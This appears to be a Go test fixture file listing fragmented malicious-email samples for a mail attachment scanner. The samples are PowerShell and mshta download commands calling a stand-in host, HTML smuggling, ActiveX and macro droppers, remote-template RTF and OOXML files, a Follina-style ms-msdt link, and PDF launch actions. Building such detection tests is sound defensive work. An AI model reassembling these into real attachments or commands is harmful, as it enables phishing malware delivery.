package starter

var mailDropperSamples = map[string]sample{
	"mail_lnk_powershell":          {lnk, `powersh¦ell -w hidden iwr¦ https://a.example/x`},
	"mail_lnk_remote_proxy":        {lnk, `msh¦ta https://a.example/x.hta`},
	"mail_lnk_script_chain":        {lnk, `cmd.ex¦e /c find¦str x a.lnk`},
	"mail_hta_dropper":             {raw, `<hta:appli¦cation><script language="vb¦script">CreateObj¦ect("WScript.Shell").R¦un "powersh¦ell x"</script>`},
	"mail_html_smuggling":          {raw, `<html><script>var d = at¦ob("TVqQ¦AA«QUJD*60»"); var u = URL.createObject¦URL(new Bl¦ob([d])); a.down¦load = "x.exe"; a.cli¦ck();</script></html>`},
	"mail_js_dropper":              {raw, `var h = new ActiveX¦Object("MSXML2.XML¦HTTP"); var s = new ActiveX¦Object("ADODB.Str¦eam"); s.SaveTo¦File("x.exe"); new ActiveX¦Object("WScript.Sh¦ell").R¦un("x.exe");`},
	"mail_script_powershell":       {raw, `Set s = CreateObj¦ect("WScript.Shell"): s.R¦un "powersh¦ell -w hidden IE¦X", 0`},
	"mail_vbs_char_codes":          {raw, `Exec¦ute(«Ch¦r(65) & *25»Chr(66))`},
	"mail_wsf_dropper":             {raw, `<jo¦b id="x"><script langu¦age="vbsc¦ript">new ActiveXObject("MSXML2.XML¦HTTP"); new ActiveXObject("WScript.Sh¦ell").R¦un("x");</script></job>`},
	"mail_batch_hidden_powershell": {raw, "@echo off\npowersh¦ell [IO.File]::ReadAll¦Text('%~f0')\n"},
	"mail_url_shortcut_remote":     {raw, "[Internet¦Shortcut]\nURL=file://192.0.2.1@80/x¦/run.exe\n"},
	"mail_eml_double_extension":    {raw, "From: a@a.example\nContent-Type: application/octet-stream; name=\"invoice.pd¦f.exe\"\n\n"},
	"mail_eml_program":             {raw, "From: a@a.example\nContent-Type: application/octet-stream; name=\"run.¦exe\"\n\nTVqQAAMA¦AAAEAAAA\n"},
}

var mailDocumentSamples = map[string]sample{
	"mail_ole_macro_autorun":     {ole, "_VBA_¦PROJECT Attri¦but Auto¦Open WScript.¦Shell MSXML2.¦XMLHTTP"},
	"mail_macro_autorun":         {raw, "Attribute VB_Na¦me = \"a\"\r\nSub Auto¦Open()\r\nShe¦ll \"cmd¦ /c x\"\r\nEnd Sub\r\n"},
	"mail_rtf_equation_exploit":  {raw, `{\rtf1{\object\objemb{\*\obj¦data 4571756174696f¦6e2e33}}}`},
	"mail_rtf_remote_template":   {raw, `{\rtf1{\*\tem¦plate https://a.example/x.dotm}}`},
	"mail_rtf_embedded_program":  {raw, `{\rtf1{\*\objdata 50616368¦5061636b¦61676500 782e657¦86500}}`},
	"mail_ooxml_remote_template": {raw, `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package¦/2006/relationships"><Relation¦ship Id="r" Type="http://x/attached¦Template" Target="https://a.example/x.dotm" TargetMode="Exter¦nal"/></Relationships>`},
	"mail_ooxml_remote_object":   {raw, `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package¦/2006/relationships"><Relation¦ship Id="r" Type="http://x/ole¦Object" Target="https://a.example/x.html!" TargetMode="Exter¦nal"/></Relationships>`},
	"mail_html_msdt":             {raw, `<html><script>location.href¦ = "ms-ms¦dt:/id PCWDiag¦nostic /param IT_Browse¦ForFile=x";</script></html>`},
	"mail_onenote_script":        {onenote, "hex E716E3BD65261145A4C48D4D0B7A9EAC\n@echo ¦off"},
	"mail_pdf_launch":            {raw, `%PDF-1.4 << /Open¦Action << /S /Lau¦nch /Win << /F (cm¦d.exe) /P (/c start x) >> >> >>`},
	"mail_pdf_export_and_run":    {raw, `%PDF-1.4 /Open¦Action /Embedded¦File /F (x.do¦cm) this.exportData¦Object({ cName: "x", nLaunch: 2 });`},
	"mail_pdf_script_launch":     {raw, `this.exportData¦Object({ cName: "x.hta", nLau¦nch: 2 });`},
	"mail_svg_script":            {raw, `<s¦vg xmlns="http://www.w3.org/2000/svg"><scr¦ipt>window.loc¦ation.href = at¦ob("QUJD");</script></svg>`},
}
